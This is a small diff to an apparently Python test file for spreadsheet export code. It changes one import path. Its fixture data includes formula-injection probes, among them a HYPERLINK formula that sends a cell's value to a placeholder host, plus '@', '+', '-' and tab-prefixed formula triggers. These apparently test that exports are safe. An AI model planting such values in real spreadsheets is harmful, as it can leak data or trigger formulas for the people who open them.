@@ -7,7 +7,7 @@ from decimal import Decimal as D
 import openpyxl
 import pandas as pd
 
-from monitor import exports
+from monitor.reports import downloads as exports
 
 FRAME = pd.DataFrame({"text": ['=HYPERLINK("http://x?"&A1)', "@SUM(1)", "+cmd", "\t=1", "-x", "Bodø"],
                       "amount": [D("-100.00"), D("1.50"), D("0.00"), None, D("2.25"), D("1234567.89")]})
